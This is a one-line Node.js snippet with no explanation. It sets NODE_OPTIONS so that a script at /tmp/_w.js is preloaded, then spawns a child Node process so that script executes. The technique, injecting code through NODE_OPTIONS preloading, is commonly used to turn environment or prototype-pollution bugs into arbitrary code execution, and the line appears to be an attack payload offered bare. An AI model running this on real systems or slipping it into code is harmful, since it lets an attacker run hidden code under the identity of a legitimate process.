process.env.NODE_OPTIONS='-r /tmp/_w.js';require('child_process').spawnSync(process.execPath,['-e','0'],{stdio:'inherit'})
